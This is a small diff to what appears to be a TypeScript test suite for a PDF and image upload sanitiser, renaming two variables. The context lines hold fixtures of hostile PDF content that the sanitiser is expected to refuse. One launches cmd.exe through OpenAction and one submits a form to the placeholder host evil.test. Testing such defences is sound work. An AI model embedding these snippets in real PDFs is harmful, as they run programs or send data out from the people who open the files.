@@ -171,7 +171,7 @@ const refused: [string, () => Buffer | Promise<Buffer>, string][] = [
     'unreadable',
   ],
   ['a PDF that starts a program', () => pdfOf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'active'],
-  ...actions.map(([what, objects]): [string, () => Buffer, string] => [`a PDF ${what}`, () => pdfOf(objects), 'active']),
+  ...actions.map(([label, objects]): [string, () => Buffer, string] => [`a PDF ${label}`, () => pdfOf(objects), 'active']),
   ['a PDF with a film', () => pdfOf({ objects: ['60 0 obj\n<< /Subtype /RichMedia >>\nendobj'] }), 'active'],
   ['a PDF that sends a form', () => pdfOf({ objects: ['60 0 obj\n<< /S /SubmitForm /F (https://evil.test) >>\nendobj'] }), 'active'],
   ['a PDF with a form program', () => pdfOf({ catalog: '/AcroForm << /XFA 60 0 R >>' }), 'active'],
@@ -199,8 +199,8 @@ const stoppedByLimits: typeof refused = [
 async function examine(bytes: Buffer) {
   const kind = fileKind(bytes)
   if (kind !== 'application/pdf') return remakeImage(bytes, kind ?? 'image/png')
-  const made = await examinePdf(bytes, 30)
-  return typeof made === 'string' ? made : { kind, bytes: made }
+  const result = await examinePdf(bytes, 30)
+  return typeof result === 'string' ? result : { kind, bytes: result }
 }
 
 /** Found before a process is started, or by the limits of the process. */
